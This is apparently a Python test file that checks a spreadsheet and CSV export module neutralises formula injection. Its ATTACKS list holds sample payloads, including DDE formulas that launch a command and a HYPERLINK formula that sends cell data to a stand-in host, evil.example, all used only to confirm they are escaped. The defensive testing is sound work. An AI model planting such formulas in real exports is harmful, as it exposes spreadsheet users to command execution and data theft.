"""core.exports: no export carries a live formula (issue 11: formula injection)."""

from __future__ import annotations

import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fangkong.core import exports

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells_and_formulas(content: bytes) -> tuple[list[str], bool]:
    """Every text of the workbook (shared and inline strings) and whether a formula exists."""
    from python_calamine import CalamineWorkbook

    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    texts = [
        str(v)
        for name in book.sheet_names
        for row in book.get_sheet_by_name(name).to_python()
        for v in row
    ]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        formula = any(
            b"<f>" in archive.read(n) or b"<f " in archive.read(n)
            for n in archive.namelist()
            if n.startswith("xl/worksheets/")
        )
    return texts, formula


def assert_neutral(content: bytes, attacks=ATTACKS) -> None:
    texts, formula = cells_and_formulas(content)
    assert not formula
    for text in texts:
        assert not text.startswith(exports.TRIGGERS) or text.lstrip("+-").replace(".", "").isdigit()
    for attack in attacks:
        assert "'" + attack in texts, attack


@pytest.mark.parametrize("constant_memory", [False, True])
def test_every_write_method_neutralises(constant_memory):
    out = io.BytesIO()
    book = exports.workbook(out, {"constant_memory": constant_memory})
    sheet = book.add_worksheet("x")
    for row, attack in enumerate(ATTACKS):
        sheet.write(row, 0, attack)
        sheet.write_string(row, 1, attack)
        sheet.write_row(row, 2, [attack, "张三"])
    sheet.write_formula(len(ATTACKS), 0, "=1+1")  # the code's own formula stays
    book.close()
    texts, formula = cells_and_formulas(out.getvalue())
    assert formula
    for attack in ATTACKS:
        assert texts.count("'" + attack) == 3
    assert "张三" in texts


def test_numbers_and_ordinary_text_are_unchanged():
    for value in ["-3", "+8613912345678", "12.5", "张三", "", "a=b", 7, None, -1.5]:
        assert exports.neutralise(value) == value


@given(st.text(max_size=30))
def test_nothing_neutralised_starts_like_a_formula(text):
    value = exports.neutralise(text)
    assert not value.startswith(exports.TRIGGERS) or exports._PLAIN_NUMBER.fullmatch(value)


def test_csv_writer():
    out = io.StringIO()
    exports.csv_writer(out).writerow(["=1+1", "-3", "名字"])
    assert out.getvalue().strip() == "'=1+1,-3,名字"
